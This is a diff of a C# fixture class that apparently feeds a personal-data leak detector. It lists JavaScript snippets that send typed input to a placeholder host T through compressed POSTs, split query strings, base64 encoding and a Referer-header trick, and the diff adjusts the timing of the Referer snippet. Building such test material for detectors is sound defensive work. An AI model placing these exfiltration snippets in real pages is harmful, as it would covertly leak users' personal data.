@@ -60,7 +60,7 @@ static class Plants
         new("deflate", RuleName.PersonalData, "typed(async v => fetch(T + '/p', { method: 'POST', mode: 'no-cors', body: await pack('deflate', JSON.stringify({ v })) }));"),
         new("gzip-base64", RuleName.PersonalData, "typed(async v => get('x=' + E(b64(await pack('gzip', JSON.stringify({ v }))))));"),
         new("split", RuleName.PersonalData, "typed(v => get('a=' + v.slice(0, 6) + '&b=' + v.slice(6, 12) + '&c=' + E(v.slice(12))));"),
-        new("referer", RuleName.PersonalData, "typed(v => { history.replaceState(0, '', '?q=' + E(v)); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = T + '/p'; history.replaceState(0, '', location.pathname); });"),
+        new("referer", RuleName.PersonalData, "typed(v => { history.replaceState(0, '', '?q=' + E(v)); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = T + '/p'; setTimeout(() => history.replaceState(0, '', location.pathname), 100); });"),
     ];
 
     /// <summary>Other kinds of fields, and what is no field.</summary>
